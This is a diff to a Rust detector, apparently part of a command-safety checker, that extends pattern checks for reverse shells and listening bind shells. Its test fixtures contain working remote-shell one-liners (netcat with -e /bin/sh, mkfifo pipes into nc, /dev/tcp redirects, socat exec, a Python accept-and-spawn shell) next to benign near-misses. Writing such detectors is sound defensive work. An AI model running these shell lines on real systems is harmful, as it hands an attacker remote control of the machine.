@@ -156,17 +156,32 @@ fn is_connecting(text: &[u8], commands: &[Command<'_>]) -> bool {
         named && command.words.iter().skip(1).any(|word| gives(word))
     });
     let is_pipe = has("mkfifo") || has("mknod");
+    let carries = |command: &Command<'_>| {
+        command.name().is_some_and(|name| matches!(name, b"nc" | b"ncat" | b"netcat" | b"telnet" | b"openssl"))
+    };
     let is_relayed = is_pipe
-        && commands.iter().any(|command| {
-            command.name().is_some_and(|name| matches!(name, b"nc" | b"ncat" | b"netcat" | b"telnet" | b"openssl"))
-        })
+        && commands.iter().any(carries)
         && commands.iter().any(|command| command.is_piped && command.name().is_some_and(is_shell_name));
+    // `cat f | sh -i 2>&1 | nc …`: the shell reads from one side and writes to the connection.
+    let is_between = commands.windows(2).any(|pair| match pair {
+        [shell, next] => {
+            shell.is_piped
+                && shell.name().is_some_and(is_shell_name)
+                && shell.runs_input()
+                && next.is_piped
+                && carries(next)
+        }
+        _ => false,
+    });
     let is_socat = commands.iter().any(|command| command.name() == Some(b"socat")) && gives_shell(text);
     // In Python, Perl, Ruby, Node and Lua.
     let connects = has("connect(") || has("create_connection(") || has("PeerAddr") || has("TCPSocket");
     let is_script = connects && [&OPENS[..], &RUNS].iter().all(|words| words.iter().any(|word| has(word)));
     let is_php = has("fsockopen(") && (has("exec(") || has("proc_open(") || has("/bin/sh"));
-    is_awk || is_bash || is_netcat || is_relayed || is_socat || is_script || is_php
+    // A script that waits for a connection and starts a shell on it.
+    let waits = has("listen(") && has("accept(") && (has("/bin/sh") || has("/bin/bash") || has("pty.spawn"));
+    let is_waiting = waits && (has("dup2(") || has("stdin=") || has("STDIN") || has("pty.spawn"));
+    is_awk || is_bash || is_netcat || is_relayed || is_between || is_socat || is_script || is_php || is_waiting
 }
 
 /// Whether an address of `socat` runs a shell that reads commands: `exec:'bash -li',pty`, `SYSTEM:sh`.
@@ -426,6 +441,8 @@ mod tests {
             "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
             "nc -e /bin/sh 203.0.113.66 4444",
             "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.66 4444 >/tmp/f",
+            "cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.66 4446 >/tmp/f",
+            "s.listen(1)\nc,a=s.accept();subprocess.call([\"/bin/sh\",\"-i\"],stdin=c.fileno(),stdout=c.fileno())",
             "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.66:4444",
             "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr",
             "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.66/4444\"; while (1) {}}'",
@@ -437,6 +454,8 @@ mod tests {
             "postgres -c unix_socket_directories=/tmp -c max_connections=8 -h 127.0.0.1; exec psql",
             "timeout 1 bash -c '</dev/tcp/db/5432'",
             "nc -z db 5432",
+            "cat report | sh format.sh | nc printer 9100",
+            "s.listen(1); c, a = s.accept(); c.send(b'ready')",
             "socat TCP-LISTEN:80,fork TCP:db:80",
             "socat TCP-LISTEN:9000,fork EXEC:/srv/handler.sh",
             "socat TCP-LISTEN:9000,fork EXEC:'sh /srv/handler.sh'",
